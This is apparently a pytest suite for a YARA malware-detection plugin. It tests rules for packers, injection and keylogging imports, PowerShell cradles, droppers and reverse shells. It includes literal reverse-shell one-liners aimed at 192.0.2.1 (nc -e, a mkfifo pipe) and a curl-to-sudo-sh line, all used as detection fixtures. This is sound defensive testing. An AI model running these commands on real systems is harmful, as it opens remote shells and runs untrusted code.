import re
from pathlib import Path
from typing import Any

import example_plugins
import pytest
from tiny_pe import tiny_pe
from yara_samples import CRADLE, EICAR, ELF, ENCODED, INJECTION, JS, MACRO, REVERSE, VBS

yara_rules = example_plugins.load("yara", "yara_rules")
yara_scan = example_plugins.load("yara", "yara_scan")
main = example_plugins.load("yara", "main")

RULES = yara_rules.compile_rules()


def write(folder: Path, content: bytes) -> Path:
    path = folder / "sample"
    path.write_bytes(content)
    return path


def scan(path: Path, rules: Any = RULES) -> Any:
    return yara_scan.scan(rules, path, yara_scan.Settings())


@pytest.mark.parametrize(
    ("content", "rules"),
    [
        (tiny_pe([b"UPX0", b"UPX1"]), ["packer_upx_pe"]),
        (ELF + b"UPX!" + bytes(100), ["packer_upx_elf"]),
        (ELF + bytes(600) + b"$Info: This file is packed with the UPX executable packer", ["packer_upx_elf"]),
        (tiny_pe([b".text", b".aspack"]), ["packer_aspack"]),
        (tiny_pe([b".MPRESS1"]), ["packer_mpress"]),
        (tiny_pe([b".petite"]), ["packer_petite"]),
        (tiny_pe([b".text", b".themida"]), ["protector_themida"]),
        (tiny_pe([b".vmp0"]), ["protector_vmprotect"]),
        (tiny_pe([b".idata"], {b"KERNEL32.dll": INJECTION}), ["imports_process_injection"]),
        (
            tiny_pe(
                [b".idata"],
                {
                    b"ntdll.dll": [b"NtUnmapViewOfSection"],
                    b"kernel32.dll": [b"WriteProcessMemory", b"SetThreadContext", b"ResumeThread"],
                },
            ),
            ["imports_process_hollowing"],
        ),
        (
            tiny_pe([b".idata"], {b"USER32.dll": [b"SetWindowsHookExW", b"GetAsyncKeyState", b"GetForegroundWindow"]}),
            ["imports_keylogging"],
        ),
        (
            tiny_pe([b".idata"], {b"KERNEL32.dll": [b"CheckRemoteDebuggerPresent", b"OutputDebugStringA"]}),
            ["imports_anti_debug"],
        ),
        (
            tiny_pe([b".idata"], {b"urlmon.dll": [b"URLDownloadToFileA"], b"KERNEL32.dll": [b"WinExec"]}),
            ["imports_download_and_run"],
        ),
        (
            tiny_pe(
                [b".idata"],
                {
                    b"dbghelp.dll": [b"MiniDumpWriteDump"],
                    b"KERNEL32.dll": [b"OpenProcess"],
                    b"ADVAPI32.dll": [b"AdjustTokenPrivileges"],
                },
            ),
            ["imports_process_dump"],
        ),
        (ENCODED.encode(), ["script_powershell_encoded_command"]),
        (ENCODED.encode("utf-16-le"), ["script_powershell_encoded_command"]),
        (CRADLE, ["script_powershell_download_cradle"]),
        (VBS, ["script_vbs_dropper"]),
        (JS, ["script_js_dropper"]),
        (REVERSE, ["script_reverse_shell"]),
        (b"nc -e /bin/sh 192.0.2.1 4444", ["script_reverse_shell"]),
        (b"mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f", ["script_reverse_shell"]),
        (
            b"""python3 -c 'import socket,os;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'""",
            ["script_reverse_shell"],
        ),
        (b"curl -sSf https://example.com/install | sudo sh\n", ["script_download_to_shell"]),
        (MACRO, ["script_macro_autoexec"]),
        (EICAR, ["eicar_test_file"]),
        (EICAR + b"\r\n", ["eicar_test_file"]),
        (b" " + EICAR, ["eicar_test_string"]),
        (EICAR + b" " * 100, ["eicar_test_string"]),
    ],
    ids=lambda value: value[0] if isinstance(value, list) else "",
)
def test_a_rule_matches_what_it_is_for(tmp_path: Path, content: bytes, rules: list[str]) -> None:
    assert [match.rule for match in scan(write(tmp_path, content)).matches] == rules


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"M",
        tiny_pe([b"UPX0"])[:100],
        tiny_pe([b"UPX0"])[:300],
        tiny_pe([b".text", b".rdata"]),
        b"UPX0 UPX1 .aspack .vmp0",
        b"\x7fELF" + bytes(600) + b"UPX!",
        tiny_pe([b".idata"], {b"KERNEL32.dll": INJECTION[:3]}),
        b"\n".join(INJECTION),
        b"powershell -ExecutionPolicy Bypass -File setup.ps1",
        b"Invoke-WebRequest https://example.com/a.zip -OutFile a.zip",
        b'Set s = CreateObject("WScript.Shell")\ns.Run "notepad"',
        b"bash -i; cat /dev/tcp",
        b"curl https://example.com/a.sh > a.sh",
        b'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\nMsgBox 1\r\nEnd Sub\r\n',
        ELF + CRADLE + REVERSE + ENCODED.encode(),
        EICAR[:-1],
    ],
    ids=lambda value: repr(value[:24]),
)
def test_what_only_looks_similar_does_not_match(tmp_path: Path, content: bytes) -> None:
    assert scan(write(tmp_path, content)).matches == []


def test_plain_programs_of_the_system_are_not_suspicious() -> None:
    for name in ("ls", "sh", "cat", "grep", "tar"):
        path = Path("/bin", name).resolve()
        found = scan(path)
        assert found.size == path.stat().st_size
        assert [match.rule for match in found.matches] == []


def test_every_rule_says_what_it_found_and_how_bad_that_is() -> None:
    rules = [rule for rule in RULES if rule.identifier != "native_program"]
    assert len(rules) > 20
    for rule in rules:
        meta = dict(rule.metadata)
        assert meta["severity"] in main.SEVERITIES, rule.identifier
        assert 0 <= meta["score"] <= 100, rule.identifier
        assert meta["description"], rule.identifier
        assert re.fullmatch(r"T\d{4}(\.\d{3})? \w.*", meta.get("attack", "T1055 none")), rule.identifier


def test_the_eicar_test_string_is_in_no_file_of_the_plugin_or_its_tests() -> None:
    files = [*example_plugins.PLUGINS.rglob("*"), *Path(__file__).parent.rglob("*")]
    assert Path(__file__) in files
    for path in files:
        if path.is_file():
            content = path.read_bytes()
            assert EICAR not in content, path
            assert EICAR.replace(b"\\", b"\\\\") not in content, path


def test_rules_of_the_user_are_added_to_our_own(tmp_path: Path) -> None:
    (tmp_path / "deep").mkdir()
    (tmp_path / "deep" / "mine.yar").write_text('rule mine { strings: $a = "needle" condition: $a }')
    (tmp_path / "more.yara").write_text('include "deep/mine.yar" rule packer_aspack { condition: mine }')
    (tmp_path / "notes.txt").write_text("no rule")
    rules = yara_rules.compile_rules(tmp_path)
    sample = tmp_path / "sample"
    sample.write_bytes(b"needle " + ENCODED.encode())
    assert [(match.namespace, match.rule) for match in scan(sample, rules).matches] == [
        ("scripts.yar", "script_powershell_encoded_command"),
        ("extra/deep/mine.yar", "mine"),
        ("extra/more.yara", "mine"),
        ("extra/more.yara", "packer_aspack"),
    ]


def test_every_mistake_in_the_rules_is_named_by_file_and_line(tmp_path: Path) -> None:
    (tmp_path / "a.yar").write_text("rule fine { condition: true }\nrule bad {\n  condition: nothing\n}\n")
    (tmp_path / "b.yar").write_text("\n\nrule worse {")
    (tmp_path / "c.yar").write_bytes(b"// \xff")
    with pytest.raises(yara_rules.RulesError) as refused:
        yara_rules.compile_rules(tmp_path)
    message = str(refused.value)
    assert f"{tmp_path}/a.yar:3: unknown identifier `nothing`" in message
    assert f"{tmp_path}/b.yar:3: syntax error" in message
    assert f"{tmp_path}/c.yar: 'utf-8' codec can't decode" in message
    assert "\n" not in message


@pytest.mark.parametrize(
    ("name", "message"), [("missing", "does not exist"), ("empty", "has no *.yar or *.yara file in it")]
)
def test_a_folder_without_rules_is_refused_by_name(tmp_path: Path, name: str, message: str) -> None:
    (tmp_path / "empty").mkdir()
    with pytest.raises(yara_rules.RulesError, match=re.escape(message)) as refused:
        yara_rules.compile_rules(tmp_path / name)
    assert repr(str(tmp_path / name)) in str(refused.value)
